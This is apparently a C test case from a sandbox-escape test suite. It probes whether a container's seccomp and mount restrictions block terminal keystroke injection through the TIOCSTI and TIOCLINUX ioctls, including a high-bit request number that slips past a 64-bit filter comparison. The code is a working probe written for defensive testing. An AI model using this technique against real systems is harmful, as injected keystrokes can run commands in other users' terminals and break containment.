/*
 * id: A12
 * attack: types into a terminal with TIOCSTI, also with high bits set in the request, which a 64-bit comparison lets pass
 * walls: seccomp, mount
 * also: user, capability
 * effect: a terminal of the host gives back the byte as if someone had typed it
 * verdict: AC
 */
#include "facts.h"

#include <fcntl.h>
#include <poll.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>

/* The filter is met whatever the descriptor is; a terminal of the host's is looked for so that the call can have an effect. */
static int terminal(void) {
  int master = open("/dev/ptmx", O_RDWR | O_NOCTTY);
  if (master < 0 || unlockpt(master)) return 0;
  setsid();
  int slave = open(ptsname(master), O_RDWR);
  return slave < 0 ? 0 : slave;
}

int main(void) {
  const char byte = '\n', subcode = 3;
  int target = terminal();
  attempt("TIOCSTI", syscall(SYS_ioctl, target, 0x5412L, &byte));
  attempt("TIOCSTI with high bits", syscall(SYS_ioctl, target, 0x100005412L, &byte));
  attempt("TIOCLINUX", syscall(SYS_ioctl, target, 0x541CL, &subcode));
  struct pollfd typed = {target, POLLIN, 0};
  printf("{\"terminal\":%d,\"typed\":%d}\n", target, target > 0 && poll(&typed, 1, 0) == 1);
  return 0;
}
